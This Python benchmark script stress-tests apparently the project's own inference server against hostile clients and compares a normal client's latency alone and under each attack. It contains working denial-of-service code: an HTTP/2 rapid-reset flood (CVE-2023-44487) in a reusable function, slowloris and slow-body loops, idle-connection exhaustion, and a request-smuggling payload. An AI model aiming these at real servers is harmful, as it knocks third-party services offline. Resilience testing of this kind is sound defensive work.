"""Hostile clients: a well-behaved client's p99 alone, then under each attack.

    .venv/bin/python -m bench.hostile [--seconds 10]

One server (efficientnet-lite0, two instances; the tiny ``add_sub_fp32`` model for gRPC).
The well-behaved client: two callers in a closed loop classifying scikit-image's cat
(JPEG) over HTTP, for ``--seconds``. It runs alone, then beside each attack, and then
alone again (the two "alone" runs bound the noise). Each attack runs in its own process
so its own CPU shows as what it is, load on the same two cores:

- slowloris: 200 connections dribbling header bytes, one byte per connection every 0.1 s;
- slow bodies: 200 requests declaring 1 MB and sending a byte every 0.1 s;
- idle: 5,000 open connections that never send a byte;
- oversized headers: a loop of requests with a 100 kB header (431 expected);
- smuggling: a loop of Content-Length + Transfer-Encoding probes (400 expected);
- gRPC over the limit: a loop of 80 MB messages (RESOURCE_EXHAUSTED expected);
- HTTP/2 rapid reset: streams opened and cancelled at once on the gRPC port, as fast as
  one process can (CVE-2023-44487).

Printed: the good client's p50 / p99 and its p99 as a multiple of the alone p99 (the
goal: within 2x), and what each attack achieved (bytes, refusals, streams reset).
"""

from __future__ import annotations

import argparse
import multiprocessing
import socket
import statistics
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx

from bench.fixtures import lite0_repository
from tensorgate.server.process import spawn_server

__all__ = ["rapid_reset"]


def _connect(address: str) -> socket.socket:
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=10)


def rapid_reset(address: str, streams: int, *, batch: int = 100) -> dict[str, int]:
    """Open ``streams`` HTTP/2 streams on a gRPC port, each reset right after its HEADERS
    (CVE-2023-44487), ``batch`` per write, reconnecting whenever the server ends the
    connection. Returns what happened: streams sent, connections, GOAWAYs received."""
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions
    import h2.settings

    sent = connections = goaways = 0
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/inference.GRPCInferenceService/ServerLive"),
        (":authority", address),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    while sent < streams:
        connections += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        try:
            with _connect(address) as sock:
                sock.settimeout(5)
                conn.initiate_connection()
                sock.sendall(conn.data_to_send())
                alive = True
                while alive and sent < streams:
                    for _ in range(min(batch, streams - sent)):
                        stream = conn.get_next_available_stream_id()
                        conn.send_headers(stream, headers)
                        conn.reset_stream(stream)
                        sent += 1
                    sock.sendall(conn.data_to_send())
                    sock.setblocking(False)
                    try:
                        while data := sock.recv(65536):
                            for event in conn.receive_data(data):
                                if isinstance(event, h2.events.ConnectionTerminated):
                                    goaways += 1
                                    alive = False
                            sock.sendall(conn.data_to_send())
                        alive = False  # the server closed the connection
                    except BlockingIOError:
                        pass
                    finally:
                        sock.setblocking(True)
        except (OSError, h2.exceptions.ProtocolError):
            pass  # the server cut the connection: open another
    return {"streams reset": sent, "connections": connections, "GOAWAYs": goaways}


def _slowloris(http: str, stop: threading.Event, body: bool) -> dict[str, int]:
    head = b"POST /v2/models/efficientnet-lite0/classify HTTP/1.1\r\nHost: x\r\n"
    if body:
        head += b"Content-Length: 1000000\r\n\r\n"

    def opened() -> socket.socket:
        sock = _connect(http)
        sock.sendall(head)  # the request line; then headers (or a body) byte by byte
        sock.setblocking(False)
        return sock

    socks = [opened() for _ in range(200)]
    each = [0] * len(socks)  # bytes dribbled on each connection
    header = b"X-A: b\r\n"  # endless headers, a byte at a time
    dribbled = reconnects = 0
    while not stop.is_set():
        for i, sock in enumerate(socks):
            try:
                at = each[i] % len(header)
                sock.send(b"a" if body else header[at : at + 1])
                each[i] += 1
                dribbled += 1
            except OSError:  # cut off at the deadline: come back
                sock.close()
                socks[i], each[i] = opened(), 0
                reconnects += 1
        stop.wait(0.1)
    for sock in socks:
        sock.close()
    return {"bytes dribbled": dribbled, "cut off and reconnected": reconnects}


def _idle(http: str, stop: threading.Event) -> dict[str, int]:
    socks = []
    for _ in range(5000):
        try:
            socks.append(_connect(http))
        except OSError:
            break
    opened = len(socks)
    stop.wait()
    for sock in socks:
        sock.close()
    return {"idle connections": opened}


def _loop(http: str, stop: threading.Event, request: bytes) -> dict[str, int]:
    answers: dict[str, int] = {}
    while not stop.is_set():
        try:
            with _connect(http) as sock:
                sock.sendall(request)
                first = sock.recv(64)
        except OSError:
            first = b"reset"
        code = first[9:12].decode(errors="replace") or "closed"
        answers[code] = answers.get(code, 0) + 1
    return {f"answered {k}": v for k, v in sorted(answers.items())}


def _grpc_big(grpc: str, stop: threading.Event) -> dict[str, int]:
    import numpy as np
    import tritonclient.grpc as grpcclient
    from tritonclient.utils import InferenceServerException

    client = grpcclient.InferenceServerClient(grpc)
    big = grpcclient.InferInput("INPUT0", [1, 20_000_000], "FP32")  # 80 MB > 64 MiB
    big.set_data_from_numpy(np.zeros((1, 20_000_000), np.float32))
    refused = 0
    while not stop.is_set():
        try:
            client.infer("add_sub_fp32", [big, big])
        except InferenceServerException:
            refused += 1
    return {"80 MB messages refused": refused}


def _flood(grpc: str, stop: threading.Event) -> dict[str, int]:
    total: dict[str, int] = {}
    while not stop.is_set():
        for k, v in rapid_reset(grpc, 2000).items():
            total[k] = total.get(k, 0) + v
    return total


SMUGGLE = (
    b"POST /v2/repository/index HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v2/models/stats HTTP/1.1\r\nHost: x\r\n\r\n"
)
OVERSIZED = b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\nX-Big: " + b"b" * 100_000 + b"\r\n\r\n"


def _attack(name: str, http: str, grpc: str) -> Callable[[threading.Event], dict[str, int]]:
    return {
        "slowloris headers": lambda stop: _slowloris(http, stop, body=False),
        "slow bodies": lambda stop: _slowloris(http, stop, body=True),
        "5,000 idle connections": lambda stop: _idle(http, stop),
        "oversized headers": lambda stop: _loop(http, stop, OVERSIZED),
        "smuggling probes": lambda stop: _loop(http, stop, SMUGGLE),
        "gRPC over the limit": lambda stop: _grpc_big(grpc, stop),
        "HTTP/2 rapid reset": lambda stop: _flood(grpc, stop),
    }[name]


def _attacker(name: str, http: str, grpc: str, seconds: float, out: Any) -> None:
    stop = threading.Event()
    threading.Timer(seconds, stop.set).start()
    out.send(_attack(name, http, grpc)(stop))


def good_client(url: str, photo: bytes, seconds: float, callers: int = 2) -> list[float]:
    latencies: list[float] = []
    end = time.monotonic() + seconds

    def call() -> None:
        with httpx.Client(timeout=30) as client:
            while time.monotonic() < end:
                began = time.perf_counter()
                answer = client.post(url, content=photo)
                latencies.append(time.perf_counter() - began)
                answer.raise_for_status()

    threads = [threading.Thread(target=call) for _ in range(callers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return latencies


def p99(values: list[float]) -> float:
    ordered = sorted(values)
    return ordered[int(0.99 * (len(ordered) - 1))]


ATTACKS = [
    "slowloris headers",
    "slow bodies",
    "5,000 idle connections",
    "oversized headers",
    "smuggling probes",
    "gRPC over the limit",
    "HTTP/2 rapid reset",
]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args()
    from bench.soak import photos

    cat = photos()[0]
    with tempfile.TemporaryDirectory(prefix="tensorgate-hostile-") as scratch:
        repo = lite0_repository(Path(scratch), tensors=True)
        with spawn_server(repo, "--instances", "2", "--header-timeout", "10") as server:
            assert server.grpc is not None
            url = f"{server.url}/v2/models/efficientnet-lite0/classify"
            good_client(url, cat, 3.0)  # warm-up
            alone = good_client(url, cat, args.seconds)
            base = p99(alone)
            print(f"{'good client beside':<24} {'p50 ms':>7} {'p99 ms':>7} {'p99 / alone':>11}")
            print(f"{'nothing':<24} {statistics.median(alone) * 1e3:7.1f} {base * 1e3:7.1f}")
            for name in ATTACKS:
                here, there = multiprocessing.Pipe()
                attacker = multiprocessing.Process(
                    target=_attacker,
                    args=(name, server.host_port, server.grpc, args.seconds + 2, there),
                )
                attacker.start()
                time.sleep(1.0)  # the attack is under way before measuring
                under = good_client(url, cat, args.seconds)
                attacker.join(60)
                achieved = here.recv() if here.poll(5) else {"no report": 1}
                ratio = p99(under) / base
                print(
                    f"{name:<24} {statistics.median(under) * 1e3:7.1f} "
                    f"{p99(under) * 1e3:7.1f} {ratio:10.2f}x "
                    f"{'ok' if ratio <= 2 else 'OVER 2x'}  {achieved}",
                    flush=True,
                )
            again = good_client(url, cat, args.seconds)
            print(
                f"{'nothing (again)':<24} {statistics.median(again) * 1e3:7.1f} "
                f"{p99(again) * 1e3:7.1f} {p99(again) / base:10.2f}x"
            )
            assert httpx.get(f"{server.url}/v2/health/ready").status_code == 200


if __name__ == "__main__":
    main()
